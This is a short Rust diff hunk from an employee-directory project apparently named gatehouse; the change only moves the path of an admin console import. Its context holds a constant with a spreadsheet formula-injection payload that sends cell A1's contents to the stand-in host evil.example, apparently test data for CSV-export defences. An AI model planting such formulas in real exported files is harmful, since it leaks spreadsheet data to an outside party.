@@ -6,7 +6,7 @@ use gatehouse::directory::csv_io;
 use gatehouse::directory::employees::{self as people, Profile};
 use gatehouse::directory::lifecycle;
 
-use crate::admin::console;
+use crate::helpers::admin::console;
 use crate::helpers::{csv, person};
 
 const TITLE: &str = r#"=HYPERLINK("http://evil.example/?d="&A1,"Click")"#;
